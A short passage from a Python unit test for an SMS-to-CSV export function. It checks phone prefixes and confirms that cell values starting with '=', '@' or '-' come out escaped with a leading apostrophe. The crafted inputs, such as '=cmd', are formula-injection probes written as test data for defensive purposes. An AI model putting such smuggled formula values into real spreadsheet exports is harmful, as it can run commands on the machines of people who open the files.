    assert len(sms) == 3 and all(row["phone"].startswith("09") for row in sms)
    crafted = sms_csv([{"phone": "+84912345678", "code": "=cmd", "unit_code": "@x", "link": "-y"}])
    row = next(csv.DictReader(io.StringIO(crafted.decode("utf-8"))))
    assert (row["phone"], row["dossier_code"], row["unit_code"], row["link"]) == ("+84912345678", "'=cmd", "'@x", "'-y")
